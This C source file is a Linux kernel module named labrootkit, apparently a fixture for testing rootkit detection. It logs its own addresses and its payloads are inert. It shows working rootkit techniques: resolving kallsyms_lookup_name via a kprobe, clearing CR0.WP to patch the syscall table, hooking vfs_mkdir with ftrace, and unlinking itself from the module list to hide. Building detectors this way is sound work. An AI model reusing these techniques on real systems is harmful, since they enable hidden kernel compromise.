// SPDX-License-Identifier: GPL-2.0
/* Takes the place of a system call and of a function, then leaves the list of modules: as rootkits do. */
#include <linux/ftrace.h>
#include <linux/kprobes.h>
#include <linux/list.h>
#include <linux/module.h>
#include <linux/version.h>
#include <asm/processor-flags.h>
#include <asm/special_insns.h>
#include <asm/unistd.h>

/* commit d19ad0775dcd: the registers of a callback are ftrace_regs since 5.11 */
#if LINUX_VERSION_CODE < KERNEL_VERSION(5, 11, 0)
#define ftrace_regs pt_regs
#endif

static noinline long labrootkit_call(const struct pt_regs *registers)
{
	return -EPERM;
}

static void notrace labrootkit_traced(unsigned long ip, unsigned long parent, struct ftrace_ops *ops,
				      struct ftrace_regs *regs)
{
}

static struct ftrace_ops labrootkit_ops = { .func = labrootkit_traced };

static void *symbol(const char *name)
{
	struct kprobe probe = { .symbol_name = "kallsyms_lookup_name" };
	unsigned long (*lookup_name)(const char *name);

	if (register_kprobe(&probe))
		return NULL;
	lookup_name = (void *)probe.addr;
	unregister_kprobe(&probe);
	return (void *)lookup_name(name);
}

/* The table is read-only: without CR0.WP the processor does not mind. */
static void replace(void **entry, void *by)
{
	unsigned long cr0 = read_cr0(), flags;

	local_irq_save(flags);
	asm volatile("mov %0, %%cr0" : : "r"(cr0 & ~X86_CR0_WP) : "memory");
	WRITE_ONCE(*entry, by);
	asm volatile("mov %0, %%cr0" : : "r"(cr0) : "memory");
	local_irq_restore(flags);
}

static int __init labrootkit_init(void)
{
	void **table = symbol("sys_call_table");
	int error = ftrace_set_filter(&labrootkit_ops, "vfs_mkdir", strlen("vfs_mkdir"), 0);

	if (!table)
		return -ENOENT;
	error = error ?: register_ftrace_function(&labrootkit_ops);
	if (error)
		return error;
	replace(table + __NR_uselib, labrootkit_call);
	pr_info("LAB-FACT labrootkit.module %px\n", THIS_MODULE);
	pr_info("LAB-FACT labrootkit.call %px\n", labrootkit_call);
	pr_info("LAB-FACT labrootkit.traced %px\n", labrootkit_traced);
	list_del(&THIS_MODULE->list);
	return 0;
}

module_init(labrootkit_init);
MODULE_LICENSE("GPL");
